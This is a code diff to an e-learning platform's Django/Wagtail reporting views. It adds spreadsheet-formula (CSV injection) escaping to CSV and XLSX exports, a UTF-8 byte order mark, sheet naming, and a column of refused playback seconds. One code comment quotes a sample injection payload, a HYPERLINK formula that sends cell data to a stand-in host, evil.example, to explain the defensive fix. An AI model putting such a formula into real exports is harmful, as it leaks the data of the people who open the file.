@@ -2,6 +2,7 @@
 a table, and CSV/XLSX exports with the filters applied."""
 
 import datetime
+import re
 import statistics
 import tempfile
 from collections import defaultdict
@@ -9,7 +10,7 @@ from decimal import Decimal
 
 import django_filters
 from django.contrib.auth import get_user_model
-from django.db.models import Count, F, IntegerField, Max, OuterRef, Q, QuerySet, Subquery
+from django.db.models import Count, F, FloatField, IntegerField, Max, OuterRef, Q, QuerySet, Subquery, Sum
 from django.db.models.functions import Coalesce
 from django.http import FileResponse, Http404, HttpResponseBadRequest
 from django.shortcuts import get_object_or_404
@@ -33,6 +34,7 @@ from common.models import TopicArea
 from courses.access import forbidden, require_in_scope, scope_q
 from courses.models import CoursePage, Enrolment, LessonProgress, QuizAttempt
 from courses.selectors import course_steps
+from elearning.formatting import format_duration
 
 REPORTS_PERMISSION = "courses.view_learning_reports"
 COMPLETE_PERMISSION = "courses.complete_manually"
@@ -134,6 +136,19 @@ class ReportMenuItem(MenuItem):
         return request.user.has_perm(REPORTS_PERMISSION)
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula (CSV injection): an
+# organisation named '=HYPERLINK("http://evil.example/?x="&A1,"x")' would send a coordinator's
+# data away. Such text is written with an apostrophe in front, which spreadsheets show as text.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value):
+    """`value`, or a string a spreadsheet cannot take for a formula."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
 class StreamingExportMixin:
     """Exports that do not hold the rows in memory: the rows come from the database in chunks
     (decorated a chunk at a time), the CSV streams, and the XLSX (openpyxl's write-only mode) is
@@ -168,13 +183,54 @@ class StreamingExportMixin:
 
     def stream_csv(self, queryset):
         """The CSV in the language and time zone of the request (the response streams after the
-        view has returned and Wagtail has left the admin user's language)."""
-        return self._localised(
-            super().stream_csv(queryset), translation.get_language(), timezone.get_current_timezone()
+        view has returned and Wagtail has left the admin user's language), starting with a
+        UTF-8 byte order mark: without it Excel reads the file in the system's code page and
+        garbles "Łęcka"."""
+        rows = super().stream_csv(queryset)
+        zone = timezone.get_current_timezone()
+        return self._localised(rows, translation.get_language(), zone, first="\ufeff")
+
+    def write_csv_row(self, writer, row_dict):
+        return writer.writerow(
+            {
+                field: spreadsheet_safe(self.preprocess_field_value(field, value, self.FORMAT_CSV))
+                for field, value in row_dict.items()
+            }
         )
 
+    def get_heading(self, queryset, field):
+        # Headings carry editors' titles ("Best: <quiz>"), so they are made safe too.
+        return spreadsheet_safe(str(self.export_headings.get(field, field)))
+
+    def write_csv_response(self, queryset):
+        response = super().write_csv_response(queryset)
+        response["Content-Type"] = "text/csv; charset=utf-8"
+        return response
+
+    def sheet_title(self) -> str:
+        """The XLSX sheet's name: the report's title, within what Excel allows (31 characters,
+        none of []:*?/\\)."""
+        title = str(self.get_page_title() or self.get_filename())
+        return re.sub(r"[\[\]:*?/\\]", " ", title).strip()[:31] or "Raport"
+
+    def write_xlsx(self, queryset, output):
+        """Wagtail's write-only workbook, with the sheet named after the report (not "Sheet1")."""
+        from openpyxl import Workbook
+        from wagtail.admin.views.mixins import ExcelDateFormatter
+
+        workbook = Workbook(write_only=True, iso_dates=True)
+        worksheet = workbook.create_sheet(title=self.sheet_title())
+        worksheet.append(self.get_heading(queryset, field) for field in self.list_export)
+        date_format = ExcelDateFormatter().get()
+        for item in queryset:
+            row = self.to_row_dict(item)
+            worksheet.append(self.generate_xlsx_row(worksheet, row, date_format=date_format))
+        workbook.save(output)
+
     @staticmethod
-    def _localised(rows, language, zone):
+    def _localised(rows, language, zone, first=""):
+        if first:
+            yield first
         with translation.override(language), timezone.override(zone):
             yield from rows
 
@@ -194,9 +250,6 @@ class StreamingExportMixin:
                 chunk = []
         if chunk:
             yield from self.decorate_paginated_queryset(chunk)
-
-    def get_heading(self, queryset, field):
-        return str(self.export_headings.get(field, field))
 
     def write_xlsx_response(self, queryset):
         output = tempfile.SpooledTemporaryFile(max_size=2**20)  # noqa: SIM115 (FileResponse closes it)
@@ -357,6 +410,9 @@ def decorate_enrolment(enrolment, steps: int):
         setattr(enrolment, f"{name}_display", "—" if value is None else f"{number_format(value)}%")
     done = enrolment.lessons_done + enrolment.quizzes_passed
     enrolment.steps_done = done
+    refused = getattr(enrolment, "playback_refused", 0) or 0
+    enrolment.playback_refused = round(refused)
+    enrolment.playback_refused_display = format_duration(refused) if refused else "—"
     enrolment.progress_percent = min(100, round(100 * done / steps)) if steps else 0
     enrolment.progress_display = f"{enrolment.progress_percent}%" if steps else "—"
     enrolment.learner_name = enrolment.learner.get_display_name()
@@ -396,8 +452,18 @@ def enrolment_figures(queryset, items):
         )
         for quiz_id in quiz_ids
     }
+    # Playback the browser claimed beyond what could have been played (courses.services): a
+    # learner whose saves were refused much is worth a look before their certificate is trusted.
+    refused = (
+        LessonProgress.objects.filter(enrolment=OuterRef("pk"), lesson__in=lesson_ids)
+        .order_by()
+        .values("enrolment")
+        .annotate(seconds=Sum("refused_seconds"))
+        .values("seconds")[:1]
+    )
     return queryset.annotate(
         lessons_done=_count(lessons, "enrolment"),
+        playback_refused=Coalesce(Subquery(refused), 0.0, output_field=FloatField()),
         quizzes_passed=Coalesce(Subquery(passed), 0, output_field=IntegerField()),
         steps_done=F("lessons_done") + F("quizzes_passed"),
         **best,
@@ -477,6 +543,7 @@ class CourseReportView(OneObjectReportMixin, ReportPermissionMixin, StreamingExp
             ),
             Column("completed_display", label=_("Completion date"), sort_key="completed_at"),
             Column("certificate_state", label=_("Certificate")),
+            Column("playback_refused_display", label=_("Playback refused"), sort_key="playback_refused"),
         ]
 
     @cached_property
@@ -497,6 +564,7 @@ class CourseReportView(OneObjectReportMixin, ReportPermissionMixin, StreamingExp
             "manual_completion_display",
             "certificate_state",
             "certificate_code",
+            "playback_refused",
         ]
 
     @cached_property
@@ -517,6 +585,7 @@ class CourseReportView(OneObjectReportMixin, ReportPermissionMixin, StreamingExp
             "manual_completion_display": _("Manual completion"),
             "certificate_state": _("Certificate"),
             "certificate_code": _("Certificate code"),
+            "playback_refused": _("Playback refused (s)"),
         }
 
     def learners(self):
